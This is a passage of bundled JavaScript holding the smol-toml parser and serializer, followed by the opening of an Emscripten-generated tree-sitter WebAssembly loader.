	return parseNumber(ctx, ctx.p, c, 0, end);
}
function parseNumber(ctx, startPtr, startChr, sign, endChr) {
	let c = startChr;
	let state = 0;
	let hasUnderscores = false;
	if (c === 105) {
		if (ctx.s.charCodeAt(++ctx.p) !== 110 || ctx.s.charCodeAt(++ctx.p) !== 102) TomlError.x("invalid value", ctx, startPtr);
		return ctx.p++, (sign || 1) / 0;
	}
	if (c === 110) {
		if (ctx.s.charCodeAt(++ctx.p) !== 97 || ctx.s.charCodeAt(++ctx.p) !== 110) TomlError.x("invalid value", ctx, startPtr);
		return ctx.p++, NaN;
	}
	if (c === 48) {
		if (++ctx.p >= ctx.s.length || isEndOfValue(c = ctx.s.charCodeAt(ctx.p), endChr)) return ctx.bi === true ? 0n : 0;
		if (!sign) {
			if (c === 120) return parseIntegerBaseN(ctx, startPtr, 16, endChr);
			else if (c === 98) return parseIntegerBaseN(ctx, startPtr, 2, endChr);
			else if (c === 111) return parseIntegerBaseN(ctx, startPtr, 8, endChr);
		}
		if (c === 46) state = 2;
		else if (c === 101 || c === 69) state = 4;
		else TomlError.x("illegal leading zero", ctx, startPtr);
	} else if (!isDigit(c)) TomlError.x("invalid value", ctx, startPtr);
	while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) {
		if (!state) state = 1;
		if (c === 95) {
			if (!(state & 1)) TomlError.x("illegal underscore", ctx);
			state += 11;
			hasUnderscores = true;
		} else if (state === 1 && c === 46) state = 2;
		else if ((state === 1 || state === 3) && (c === 101 || c === 69)) state = 4;
		else if (state === 4 && (c === 43 || c === 45)) state = 6;
		else if (!isDigit(c)) TomlError.x(`illegal character in numeric literal`, ctx);
		else if (state > 9) state -= 11;
		else if (!(state & 1)) state++;
	}
	if (!state) {
		let val = (startChr - 48) * (sign || 1);
		return ctx.bi === true ? BigInt(val) : val;
	}
	if (!(state & 1)) TomlError.x("unfinished numeric value", ctx, startPtr);
	let str = ctx.s.slice(startPtr, ctx.p);
	if (hasUnderscores) str = str.replaceAll("_", "");
	return state > 1 ? parseFloat(str) : parseInteger(ctx, str, 10, startPtr);
}
function parseIntegerBaseN(ctx, startPtr, base, endChr) {
	let c, underscore = 1;
	while (++ctx.p < ctx.s.length && (c = ctx.s.charCodeAt(ctx.p), !isEndOfValue(c, endChr))) if (c === 95) {
		if (underscore & 1) TomlError.x("illegal underscore", ctx);
		underscore = 3;
	} else if (!isDigit(c, base)) TomlError.x(`illegal character in numeric literal`, ctx);
	else if (underscore & 1) underscore--;
	if (underscore & 1) TomlError.x("unfinished numeric value", ctx);
	let str = ctx.s.slice(startPtr + 2, ctx.p);
	if (underscore) str = str.replaceAll("_", "");
	return parseInteger(ctx, str, base, startPtr);
}
function parseInteger(ctx, str, base, startPtr) {
	if (ctx.bi !== true) int: {
		let val = parseInt(str, base);
		if (!Number.isSafeInteger(val)) {
			if (ctx.bi) break int;
			TomlError.x("integer value cannot be represented losslessly", ctx, startPtr);
		}
		return val;
	}
	return base === 10 ? BigInt(str) : BigInt((base === 2 ? "0b" : base === 8 ? "0o" : "0x") + str);
}
function parseDate(ctx, c, endChr) {
	let startPtr = ctx.p++, unsafeSeparator;
	if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++)) || !isDigit(ctx.s.charCodeAt(ctx.p++))) return parseNumber(ctx, ctx.p = startPtr, c, 0, endChr);
	ctx.p += 5;
	if (!isDigit(ctx.s.charCodeAt(ctx.p++))) TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
	if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) return readDate(ctx, ctx.s.slice(startPtr, ctx.p), 3, false, startPtr);
	if (ctx.s.charCodeAt(ctx.p += 3) !== 58) TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
	if (ctx.s.charCodeAt(ctx.p += 3) === 58) ctx.p += 3;
	if (ctx.s.charCodeAt(ctx.p) === 46) while (isDigit(ctx.s.charCodeAt(++ctx.p)));
	if (c = ctx.s.charCodeAt(ctx.p)) {
		if (c === 90 || c === 122) return readDate(ctx, ctx.s.slice(startPtr, ++ctx.p), 1, unsafeSeparator, startPtr, "[+00:00]");
		if (c === 43 || c === 45) return readDate(ctx, ctx.s.slice(startPtr, ctx.p += 6), 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
	}
	return readDate(ctx, ctx.s.slice(startPtr, ctx.p), 2, unsafeSeparator, startPtr);
}
function parseTime(ctx, c, endChr) {
	let start = ctx.p;
	if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) return parseNumber(ctx, --ctx.p, c, 0, endChr);
	if (ctx.s.charCodeAt(ctx.p += 4) === 58) ctx.p += 3;
	if (ctx.s.charCodeAt(ctx.p) === 46) while (isDigit(ctx.s.charCodeAt(++ctx.p)));
	return readDate(ctx, ctx.s.slice(start, ctx.p), 4, false, start);
}
function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
	if (ctx.ld) {
		let date = new TomlDate(str, type, unsafeDelim);
		if (!date.isValid()) TomlError.x("invalid date", ctx, errPtr);
		return date;
	}
	try {
		if (temporalSuffix) str += temporalSuffix;
		switch (type) {
			case 1: return Temporal.ZonedDateTime.from(str);
			case 2: return Temporal.PlainDateTime.from(str);
			case 3: return Temporal.PlainDate.from(str);
			case 4: return Temporal.PlainTime.from(str);
		}
	} catch (e) {
		TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
	}
}
//#endregion
//#region src/util.ts
/** @internal */
function skipComment(ctx) {
	for (; ctx.p < ctx.s.length; ctx.p++) {
		let c = ctx.s.charCodeAt(ctx.p);
		if (c === 10) break;
		if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
			ctx.p++;
			break;
		}
		if (c < 32 && c !== 9 || c === 127) TomlError.x("control characters are not allowed in comments", ctx);
	}
}
/** @internal */
function skipVoid(ctx, banNewLines, banComments) {
	let c;
	while (ctx.p < ctx.s.length) {
		while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10))) ctx.p++;
		if (banComments || c !== 35) break;
		skipComment(ctx);
	}
}
//#endregion
//#region src/struct.ts
/** @internal */
function parseKey(ctx, end = 61) {
	let startPtr;
	let state = 0;
	let parsed = [];
	let sliceStart;
	let c = ctx.s.charCodeAt(startPtr = ctx.p);
	do
		if (c === end) {
			if (!state) TomlError.x("unexpected end of key", ctx);
			if (state === 1) parsed.push(ctx.s.slice(sliceStart, ctx.p));
			return ctx.p++, parsed;
		} else if (c === 46) {
			if (!state) TomlError.x("illegal empty bare key", ctx);
			if (state === 1) parsed.push(ctx.s.slice(sliceStart, ctx.p));
			state = 0;
		} else if (!state && (c === 34 || c === 39)) {
			if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2)) TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
			parsed.push(parseString(ctx));
			state = 2;
			ctx.p--;
		} else if (c === 32 || c === 9) {
			if (state === 1) {
				parsed.push(ctx.s.slice(sliceStart, ctx.p));
				state = 2;
			}
		} else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) TomlError.x("illegal character in key", ctx);
		else if (!state) {
			state = 1;
			sliceStart = ctx.p;
		}
	while (c = ctx.s.charCodeAt(++ctx.p));
	TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
}
/** @internal */
function parseInlineTable(ctx) {
	let startPtr = ctx.p++;
	let res = Object.create(null);
	let seen = /* @__PURE__ */ new Set();
	let c;
	while (ctx.p < ctx.s.length) {
		skipVoid(ctx);
		if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
			ctx.p++;
			return res;
		}
		let k;
		let t = res;
		let hasOwn = false;
		let errPtr = ctx.p;
		let key = parseKey(ctx);
		for (let i = 0; i < key.length; i++) {
			if (i) t = hasOwn ? t[k] : t[k] = Object.create(null);
			k = key[i];
			if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) TomlError.x("trying to redefine an already defined value", ctx, errPtr);
			let unsafe = k === "__proto__";
			if (ctx.uk && (unsafe || k === "constructor")) {
				t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
				break;
			}
			if (!hasOwn && unsafe) Object.defineProperty(t, k, {
				enumerable: true,
				configurable: true,
				writable: true
			});
		}
		if (hasOwn) TomlError.x("trying to redefine an already defined value", ctx, errPtr);
		skipVoid(ctx, true, true);
		let value = extractValue(ctx, 125);
		if (t && typeof (t[k] = value) === "object") seen.add(value);
		skipVoid(ctx);
		if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) return res;
		if (c !== 44) TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
	}
	TomlError.x("unfinished table", ctx, startPtr);
}
/** @internal */
function parseArray(ctx) {
	let startPtr = ctx.p++;
	let res = [];
	let c;
	while (ctx.p < ctx.s.length) {
		skipVoid(ctx);
		if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
			ctx.p++;
			return res;
		}
		res.push(extractValue(ctx, 93));
		skipVoid(ctx);
		if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) return res;
		if (c !== 44) TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
	}
	TomlError.x("unfinished array", ctx, startPtr);
}
//#endregion
//#region src/parse.ts
function peekTable(ctx, key, table, meta, type) {
	let t = table;
	let m = meta;
	let k;
	let hasOwn = false;
	let state;
	for (let i = 0; i < key.length; i++) {
		if (i) {
			t = hasOwn ? t[k] : t[k] = Object.create(null);
			m = (state = m[k]).c;
			if (type === 0 && (state.t === 1 || state.t === 2)) return null;
			if (state.t === 2) {
				let l = t.length - 1;
				t = t[l];
				m = m[l].c;
			}
		}
		k = key[i];
		if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) return null;
		if (!hasOwn) {
			let unsafe = k === "__proto__";
			if (ctx.uk && (unsafe || k === "constructor")) return false;
			if (unsafe) {
				Object.defineProperty(t, k, {
					enumerable: true,
					configurable: true,
					writable: true
				});
				Object.defineProperty(m, k, {
					enumerable: true,
					configurable: true,
					writable: true
				});
			}
			m[k] = {
				t: i < key.length - 1 && type === 2 ? 3 : type,
				d: false,
				i: 0,
				c: Object.create(null)
			};
		}
	}
	state = m[k];
	if (state.t !== type && !(type === 1 && state.t === 3)) return null;
	if (type === 2) {
		if (!state.d) {
			state.d = true;
			t[k] = [];
		}
		t[k].push(t = Object.create(null));
		state.c[state.i++] = state = {
			t: 1,
			d: false,
			i: 0,
			c: Object.create(null)
		};
	}
	if (state.d) return null;
	state.d = true;
	if (type === 1) t = hasOwn ? t[k] : t[k] = Object.create(null);
	else if (type === 0 && hasOwn) return null;
	return [
		k,
		t,
		state.c
	];
}
function validateTablePeek(ctx, peek, ptr) {
	if (peek === null || ctx.uk === 2) TomlError.x(peek === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
}
function parse(toml, options = {}) {
	let ctx = {
		s: toml,
		p: 0,
		d: options.maxDepth ?? 1e3,
		bi: options.integersAsBigInt ?? false,
		ld: options.useLegacyDate ?? true,
		uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
	};
	let res = Object.create(null);
	let meta = Object.create(null);
	let tmp;
	let skipping = false;
	let tbl = res;
	let m = meta;
	if (toml.charCodeAt(0) === 65279) ctx.p++;
	skipVoid(ctx);
	while (ctx.p < toml.length) {
		if (toml.charCodeAt(ctx.p) === 91) {
			let isTableArray = toml.charCodeAt(++ctx.p) === 91;
			tmp = ctx.p += +isTableArray;
			skipping = false;
			let k = parseKey(ctx, 93);
			if (isTableArray) {
				if (toml.charCodeAt(ctx.p) !== 93) TomlError.x("expected end of table array declaration", ctx);
				ctx.p++;
			}
			let p = peekTable(ctx, k, res, meta, isTableArray ? 2 : 1);
			if (!p) {
				validateTablePeek(ctx, p, tmp);
				skipping = true;
			} else {
				m = p[2];
				tbl = p[1];
			}
		} else {
			tmp = ctx.p;
			let p = peekTable(ctx, parseKey(ctx), tbl, m, 0);
			if (!p && !skipping) validateTablePeek(ctx, p, tmp);
			skipVoid(ctx, true, true);
			let v = extractValue(ctx, void 0);
			if (p && !skipping) p[1][p[0]] = v;
		}
		skipVoid(ctx, true);
		if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
		skipVoid(ctx);
	}
	return res;
}
//#endregion
//#region src/stringify.ts
let BARE_KEY = /^[a-z0-9-_]+$/i;
let HAS_WELLFORMED = !!"".isWellFormed;
function extendedTypeOf(obj) {
	let type = typeof obj;
	if (type === "object") {
		if (Array.isArray(obj)) return "array";
		if (typeof obj.getUTCDate === "function" && obj instanceof Date) return "date";
		if (globalThis.Temporal) {
			if (obj.until) {
				if (obj instanceof Temporal.ZonedDateTime) return "temporal/tz+uc";
				if (obj instanceof Temporal.PlainDateTime || obj instanceof Temporal.PlainDate) return "temporal/uc";
				if (obj instanceof Temporal.PlainTime || obj instanceof Temporal.Instant) return "temporal";
				if (obj instanceof Temporal.PlainYearMonth) return "temporal/x";
			} else if (obj.toPlainDate && obj instanceof Temporal.PlainMonthDay || obj.negated && obj instanceof Temporal.Duration) return "temporal/x";
		}
	}
	return type;
}
function isArrayOfTables(obj) {
	for (let i = 0; i < obj.length; i++) if (extendedTypeOf(obj[i]) !== "object") return false;
	return obj.length != 0;
}
function formatWellFormedStringUnchecked(s) {
	return JSON.stringify(s).replaceAll("", "\\u007f");
}
function formatString(s) {
	return formatWellFormedStringUnchecked(HAS_WELLFORMED ? s.toWellFormed() : s);
}
function formatKey(s) {
	if (BARE_KEY.test(s)) return s;
	if (HAS_WELLFORMED && !s.isWellFormed()) throw new RangeError("key contains illegal lone surrogates");
	return formatWellFormedStringUnchecked(s);
}
function stringifyValue(val, type, depth, numberAsFloat, strictTemporal) {
	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
	switch (type) {
		case "number":
			if (isNaN(val)) return "nan";
			if (val === Infinity) return "inf";
			if (val === -Infinity) return "-inf";
			if (Number.isInteger(val) && (numberAsFloat || !Number.isSafeInteger(val))) return val.toFixed(1);
		case "bigint":
		case "boolean":
		case "temporal": return val.toString();
		case "string": return formatString(val);
		case "date":
			if (isNaN(val.getTime())) throw new TypeError("cannot serialize invalid date");
			return val.toISOString();
		case "object": return stringifyInlineTable(val, depth, numberAsFloat, strictTemporal);
		case "array": return stringifyArray(val, depth, numberAsFloat, strictTemporal);
		case "temporal/tz+uc": if (strictTemporal) {
			let tz = val.timeZoneId;
			let tzc = tz.charCodeAt(0);
			if (tzc !== 43 && tzc !== 45 && (tzc !== 85 && tzc !== 71 && tzc !== 90 && tzc !== 69 || tz !== "UTC" && tz !== "UCT" && tz !== "Universal" && tz !== "Zulu" && !tz.startsWith("GMT") && tz !== "Greenwich" && !tz.startsWith("Etc/"))) throw new TypeError("Temporal objects with an IANA timezone are not allowed in Temporal strict mode");
		}
		case "temporal/uc":
			if (strictTemporal && val.calendarId !== "iso8601") throw new TypeError("Temporal objects with a non-default calendar are not allowed in Temporal strict mode");
			return val.toString({
				calendarName: "never",
				timeZoneName: "never"
			});
		case "temporal/x": throw new TypeError("Unsupported " + val[Symbol.toStringTag]);
	}
}
function stringifyInlineTable(obj, depth, numberAsFloat, strictTemporal) {
	let keys = Object.keys(obj);
	if (keys.length === 0) return "{}";
	let res = "{ ";
	for (let i = 0; i < keys.length; i++) {
		let k = keys[i];
		if (i) res += ", ";
		res += formatKey(k) + " = " + stringifyValue(obj[k], extendedTypeOf(obj[k]), depth - 1, numberAsFloat, strictTemporal);
	}
	return res + " }";
}
function stringifyArray(array, depth, numberAsFloat, strictTemporal) {
	if (array.length === 0) return "[]";
	let res = "[ ";
	for (let i = 0; i < array.length; i++) {
		if (i) res += ", ";
		if (array[i] === null || array[i] === void 0) throw new TypeError("arrays cannot contain null or undefined values");
		res += stringifyValue(array[i], extendedTypeOf(array[i]), depth - 1, numberAsFloat, strictTemporal);
	}
	return res + " ]";
}
function stringifyArrayTable(array, key, depth, numberAsFloat, strictTemporal) {
	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
	let res = "";
	for (let i = 0; i < array.length; i++) {
		res += `${res && "\n"}[[${key}]]\n`;
		res += stringifyTable(0, array[i], key, depth, numberAsFloat, strictTemporal);
	}
	return res;
}
function stringifyTable(tableKey, obj, prefix, depth, numberAsFloat, strictTemporal) {
	if (depth === 0) throw new Error("Could not stringify the object: maximum object depth exceeded");
	let preamble = "";
	let tables = "";
	let keys = Object.keys(obj);
	for (let i = 0; i < keys.length; i++) {
		let k = keys[i];
		if (obj[k] !== null && obj[k] !== void 0) {
			let type = extendedTypeOf(obj[k]);
			if (type === "symbol" || type === "function") throw new TypeError(`cannot serialize values of type '${type}'`);
			let key = formatKey(k);
			if (type === "array" && isArrayOfTables(obj[k])) tables += (tables && "\n") + stringifyArrayTable(obj[k], prefix ? `${prefix}.${key}` : key, depth - 1, numberAsFloat, strictTemporal);
			else if (type === "object") {
				let tblKey = prefix ? `${prefix}.${key}` : key;
				tables += (tables && "\n") + stringifyTable(tblKey, obj[k], tblKey, depth - 1, numberAsFloat, strictTemporal);
			} else {
				preamble += key;
				preamble += " = ";
				preamble += stringifyValue(obj[k], type, depth, numberAsFloat, strictTemporal);
				preamble += "\n";
			}
		}
	}
	if (tableKey && (preamble || !tables)) preamble = preamble ? `[${tableKey}]\n${preamble}` : `[${tableKey}]`;
	return preamble && tables ? `${preamble}\n${tables}` : preamble || tables;
}
function stringify(obj, { maxDepth = 1e3, numbersAsFloat = false, strictTemporal = false } = {}) {
	if (extendedTypeOf(obj) !== "object") throw new TypeError("stringify can only be called with an object");
	let str = stringifyTable(0, obj, "", maxDepth, numbersAsFloat, strictTemporal);
	if (str[str.length - 1] !== "\n") return str + "\n";
	return str;
}
//#endregion
//#region src/index.ts
/** @deprecated use `import * as ... from 'smol-toml'` instead */
var src_default = {
	parse,
	stringify,
	TomlDate,
	TomlError
};
//#endregion
exports.TomlDate = TomlDate;
exports.TomlError = TomlError;
exports["default"] = src_default;
exports.parse = parse;
exports.stringify = stringify;


/***/ }),

/***/ 3778:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {


var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __name = (target, value) => __defProp(target, "name", { value, configurable: true });
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __export = (target, all) => {
  for (var name2 in all)
    __defProp(target, name2, { get: all[name2], enumerable: true });
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  // If the importer is in node compatibility mode or this is not an ESM
  // file that has been converted to a CommonJS file using a Babel-
  // compatible transform (i.e. "__esModule" has not been set), then set
  // "default" to the CommonJS "module.exports" for node compatibility.
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));
var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);

// lib/tree-sitter.cjs
var require_tree_sitter = __commonJS({
  "lib/tree-sitter.cjs"(exports, module) {
    "use strict";
    var Module = (() => {
      var _scriptName = typeof document != "undefined" ? document.currentScript?.src : void 0;
      if (typeof __filename != "undefined") _scriptName = _scriptName || __filename;
      return async function(moduleArg = {}) {
        var moduleRtn;
        var Module = moduleArg;
        var readyPromiseResolve, readyPromiseReject;
        var readyPromise = new Promise((resolve, reject) => {
          readyPromiseResolve = resolve;
          readyPromiseReject = reject;
        });
        var ENVIRONMENT_IS_WEB = typeof window == "object";
        var ENVIRONMENT_IS_WORKER = typeof WorkerGlobalScope != "undefined";
        var ENVIRONMENT_IS_NODE = typeof process == "object" && typeof process.versions == "object" && typeof process.versions.node == "string" && process.type != "renderer";
        var ENVIRONMENT_IS_SHELL = !ENVIRONMENT_IS_WEB && !ENVIRONMENT_IS_NODE && !ENVIRONMENT_IS_WORKER;
        if (ENVIRONMENT_IS_NODE) {
        }
        Module.currentQueryProgressCallback = null;
        Module.currentProgressCallback = null;
        Module.currentLogCallback = null;
        Module.currentParseCallback = null;
        var moduleOverrides = Object.assign({}, Module);
        var arguments_ = [];
        var thisProgram = "./this.program";
        var quit_ = /* @__PURE__ */ __name((status, toThrow) => {
          throw toThrow;
        }, "quit_");
        var scriptDirectory = "";
        function locateFile(path) {
          if (Module["locateFile"]) {
            return Module["locateFile"](path, scriptDirectory);
          }
          return scriptDirectory + path;
        }
        __name(locateFile, "locateFile");
        var readAsync, readBinary;
        if (ENVIRONMENT_IS_NODE) {
          var fs = __nccwpck_require__(9896);
          var nodePath = __nccwpck_require__(6928);
          scriptDirectory = __dirname + "/";
          readBinary = /* @__PURE__ */ __name((filename) => {
            filename = isFileURI(filename) ? new URL(filename) : filename;
            var ret = fs.readFileSync(filename);
            return ret;
          }, "readBinary");
          readAsync = /* @__PURE__ */ __name(async (filename, binary2 = true) => {
            filename = isFileURI(filename) ? new URL(filename) : filename;
            var ret = fs.readFileSync(filename, binary2 ? void 0 : "utf8");
            return ret;
          }, "readAsync");
          if (!Module["thisProgram"] && process.argv.length > 1) {
            thisProgram = process.argv[1].replace(/\\/g, "/");
          }
          arguments_ = process.argv.slice(2);
          quit_ = /* @__PURE__ */ __name((status, toThrow) => {
            process.exitCode = status;
            throw toThrow;
          }, "quit_");
        } else if (ENVIRONMENT_IS_WEB || ENVIRONMENT_IS_WORKER) {
          if (ENVIRONMENT_IS_WORKER) {
            scriptDirectory = self.location.href;
          } else if (typeof document != "undefined" && document.currentScript) {
            scriptDirectory = document.currentScript.src;
          }
          if (_scriptName) {
            scriptDirectory = _scriptName;
          }
          if (scriptDirectory.startsWith("blob:")) {
            scriptDirectory = "";
          } else {
            scriptDirectory = scriptDirectory.slice(0, scriptDirectory.replace(/[?#].*/, "").lastIndexOf("/") + 1);
          }
          {
            if (ENVIRONMENT_IS_WORKER) {
              readBinary = /* @__PURE__ */ __name((url) => {
                var xhr = new XMLHttpRequest();
                xhr.open("GET", url, false);
                xhr.responseType = "arraybuffer";
                xhr.send(null);
                return new Uint8Array(
                  /** @type{!ArrayBuffer} */
                  xhr.response
                );
              }, "readBinary");
            }
            readAsync = /* @__PURE__ */ __name(async (url) => {
              if (isFileURI(url)) {
                return new Promise((resolve, reject) => {
                  var xhr = new XMLHttpRequest();
                  xhr.open("GET", url, true);
                  xhr.responseType = "arraybuffer";
                  xhr.onload = () => {
                    if (xhr.status == 200 || xhr.status == 0 && xhr.response) {
                      resolve(xhr.response);
                      return;
                    }
                    reject(xhr.status);
                  };
                  xhr.onerror = reject;
                  xhr.send(null);
                });
              }
              var response = await fetch(url, {
                credentials: "same-origin"
              });
              if (response.ok) {
                return response.arrayBuffer();
              }
              throw new Error(response.status + " : " + response.url);
            }, "readAsync");
          }
        } else {
        }
        var out = Module["print"] || console.log.bind(console);
        var err = Module["printErr"] || console.error.bind(console);
        Object.assign(Module, moduleOverrides);
        moduleOverrides = null;
        if (Module["arguments"]) arguments_ = Module["arguments"];
        if (Module["thisProgram"]) thisProgram = Module["thisProgram"];
        var dynamicLibraries = Module["dynamicLibraries"] || [];
        var wasmBinary = Module["wasmBinary"];
        var wasmMemory;
        var ABORT = false;
        var EXITSTATUS;
        function assert(condition, text) {
          if (!condition) {
            abort(text);
          }
        }
        __name(assert, "assert");
        var HEAP, HEAP8, HEAPU8, HEAP16, HEAPU16, HEAP32, HEAPU32, HEAPF32, HEAP64, HEAPU64, HEAPF64;
        var HEAP_DATA_VIEW;
        var runtimeInitialized = false;
        var isFileURI = /* @__PURE__ */ __name((filename) => filename.startsWith("file://"), "isFileURI");
        function updateMemoryViews() {
          var b = wasmMemory.buffer;
          Module["HEAP_DATA_VIEW"] = HEAP_DATA_VIEW = new DataView(b);
          Module["HEAP8"] = HEAP8 = new Int8Array(b);
          Module["HEAP16"] = HEAP16 = new Int16Array(b);
          Module["HEAPU8"] = HEAPU8 = new Uint8Array(b);
          Module["HEAPU16"] = HEAPU16 = new Uint16Array(b);
          Module["HEAP32"] = HEAP32 = new Int32Array(b);
          Module["HEAPU32"] = HEAPU32 = new Uint32Array(b);
          Module["HEAPF32"] = HEAPF32 = new Float32Array(b);
          Module["HEAPF64"] = HEAPF64 = new Float64Array(b);
          Module["HEAP64"] = HEAP64 = new BigInt64Array(b);
          Module["HEAPU64"] = HEAPU64 = new BigUint64Array(b);
        }
        __name(updateMemoryViews, "updateMemoryViews");
        if (Module["wasmMemory"]) {
          wasmMemory = Module["wasmMemory"];
        } else {
          var INITIAL_MEMORY = Module["INITIAL_MEMORY"] || 33554432;
          wasmMemory = new WebAssembly.Memory({
            "initial": INITIAL_MEMORY / 65536,
            // In theory we should not need to emit the maximum if we want "unlimited"
            // or 4GB of memory, but VMs error on that atm, see
            // https://github.com/emscripten-core/emscripten/issues/14130
            // And in the pthreads case we definitely need to emit a maximum. So
            // always emit one.
            "maximum": 32768
          });
        }
        updateMemoryViews();
        var __RELOC_FUNCS__ = [];
        function preRun() {
          if (Module["preRun"]) {
            if (typeof Module["preRun"] == "function") Module["preRun"] = [Module["preRun"]];
            while (Module["preRun"].length) {
              addOnPreRun(Module["preRun"].shift());
            }
          }
          callRuntimeCallbacks(onPreRuns);
        }
        __name(preRun, "preRun");
        function initRuntime() {
          runtimeInitialized = true;
          callRuntimeCallbacks(__RELOC_FUNCS__);
          wasmExports["__wasm_call_ctors"]();
          callRuntimeCallbacks(onPostCtors);
        }
        __name(initRuntime, "initRuntime");
        function preMain() {
        }
        __name(preMain, "preMain");
        function postRun() {
          if (Module["postRun"]) {
            if (typeof Module["postRun"] == "function") Module["postRun"] = [Module["postRun"]];
            while (Module["postRun"].length) {
              addOnPostRun(Module["postRun"].shift());
            }
          }
          callRuntimeCallbacks(onPostRuns);
        }
        __name(postRun, "postRun");
        var runDependencies = 0;
        var dependenciesFulfilled = null;
        function getUniqueRunDependency(id) {
          return id;
        }
        __name(getUniqueRunDependency, "getUniqueRunDependency");
        function addRunDependency(id) {
          runDependencies++;
          Module["monitorRunDependencies"]?.(runDependencies);
        }
        __name(addRunDependency, "addRunDependency");
        function removeRunDependency(id) {
          runDependencies--;
          Module["monitorRunDependencies"]?.(runDependencies);
          if (runDependencies == 0) {
            if (dependenciesFulfilled) {
              var callback = dependenciesFulfilled;
              dependenciesFulfilled = null;
              callback();
            }
          }
        }
        __name(removeRunDependency, "removeRunDependency");
        function abort(what) {
          Module["onAbort"]?.(what);
          what = "Aborted(" + what + ")";
          err(what);
          ABORT = true;
          what += ". Build with -sASSERTIONS for more info.";
          var e = new WebAssembly.RuntimeError(what);
          readyPromiseReject(e);
          throw e;
        }
        __name(abort, "abort");
        var wasmBinaryFile;
        function findWasmBinary() {
          return locateFile("tree-sitter.wasm");
        }
        __name(findWasmBinary, "findWasmBinary");
        function getBinarySync(file) {
          if (file == wasmBinaryFile && wasmBinary) {
            return new Uint8Array(wasmBinary);
          }
          if (readBinary) {
            return readBinary(file);
          }
          throw "both async and sync fetching of the wasm failed";
        }
        __name(getBinarySync, "getBinarySync");
        async function getWasmBinary(binaryFile) {
          if (!wasmBinary) {
            try {
              var response = await readAsync(binaryFile);
              return new Uint8Array(response);
            } catch {
            }
          }
          return getBinarySync(binaryFile);
        }
        __name(getWasmBinary, "getWasmBinary");
        async function instantiateArrayBuffer(binaryFile, imports) {
          try {
            var binary2 = await getWasmBinary(binaryFile);
            var instance2 = await WebAssembly.instantiate(binary2, imports);
            return instance2;
          } catch (reason) {
            err(`failed to asynchronously prepare wasm: ${reason}`);
            abort(reason);
          }
        }
        __name(instantiateArrayBuffer, "instantiateArrayBuffer");
        async function instantiateAsync(binary2, binaryFile, imports) {
          if (!binary2 && typeof WebAssembly.instantiateStreaming == "function" && !isFileURI(binaryFile) && !ENVIRONMENT_IS_NODE) {
            try {
              var response = fetch(binaryFile, {
                credentials: "same-origin"
              });
              var instantiationResult = await WebAssembly.instantiateStreaming(response, imports);
              return instantiationResult;
            } catch (reason) {
              err(`wasm streaming compile failed: ${reason}`);
              err("falling back to ArrayBuffer instantiation");
            }
          }
          return instantiateArrayBuffer(binaryFile, imports);
        }
        __name(instantiateAsync, "instantiateAsync");
        function getWasmImports() {
          return {
            "env": wasmImports,
            "wasi_snapshot_preview1": wasmImports,
            "GOT.mem": new Proxy(wasmImports, GOTHandler),
            "GOT.func": new Proxy(wasmImports, GOTHandler)
          };
        }
        __name(getWasmImports, "getWasmImports");
        async function createWasm() {
          function receiveInstance(instance2, module2) {
            wasmExports = instance2.exports;
